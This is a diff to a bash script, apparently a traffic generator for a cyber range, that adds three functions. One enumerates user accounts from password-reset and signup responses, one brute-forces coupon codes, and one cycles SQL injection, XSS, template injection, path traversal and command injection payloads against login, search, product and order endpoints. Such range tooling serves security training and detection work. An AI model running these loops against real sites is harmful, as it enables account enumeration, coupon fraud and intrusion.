@@ -122,6 +122,48 @@ sms() {
   done
 }
 
+# Which addresses have an account, from what the reset says.
+user_enumeration() {
+  pick door reset reset signup
+  while IFS=: read -r email _; do
+    go_on || return
+    body="{\"email\":\"$email\"}"
+    [ "$door" = signup ] && body="{\"email\":\"$email\",\"password\":\"Passw0rd$RANDOM\",\"name\":\"x\"}"
+    code=$(curl "${flags[@]}" "${json[@]}" -d "$body" "$RANGE_URL$(at "$door")")
+    [ "$code" = 429 ] && pause 1500
+  done < <(shuf --random-source="$RANGE_LEAKED" "$RANGE_LEAKED")
+}
+
+coupons() {
+  cart=$(curl -sk "${json[@]}" -d '{}' "$RANGE_URL$(at cart)" | field id)
+  while go_on; do
+    pick word SAVE SALE SUMMER VIP WELCOME TEAM THANKS
+    pick number 5 10 15 20 25 50 2025 2026 "$RANDOM"
+    code=$(curl "${flags[@]}" "${json[@]}" -d "{\"code\":\"$word$number\"}" "$RANGE_URL$(at coupon "$cart")")
+    [ "$code" = 429 ] && pause 1500
+  done
+}
+
+# Quotes and unions in whatever takes a value, one payload after the other.
+injection() {
+  payloads=("'" "' OR '1'='1" "1 OR 1=1--" "' UNION SELECT NULL,NULL--" "'; WAITFOR DELAY '0:0:5'--" "\" OR \"\"=\"" "admin'--" "1' AND SLEEP(3)#"
+    "<script>alert(1)</script>" "\${7*7}" "../../../../etc/passwd" "{{7*7}}" ";id" "\$(id)" "%00" "' AND 1=2 UNION SELECT version()--")
+  enter ''
+  while go_on; do
+    pick payload "${payloads[@]}"
+    draw salt 1 9999
+    pick place search products order login
+    case $place in
+      login) body=$(printf '{"email":"%s","password":"x"}' "${payload//\"/\\\"}$salt")
+        code=$(curl "${flags[@]}" "${json[@]}" -d "$body" "$RANGE_URL$(at login)") ;;
+      search) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "q=$payload $salt" "$RANGE_URL$(at search)") ;;
+      products) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "category=$payload" "$RANGE_URL$(at products)") ;;
+      order) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "id=$payload" "$RANGE_URL$(at order "$salt")") ;;
+    esac
+    [ "$code" = 429 ] && pause 1500
+  done
+}
+
 spam() {
   enter needed
   products=($(curl -sk "$RANGE_URL$(at products)?limit=20" | ids))
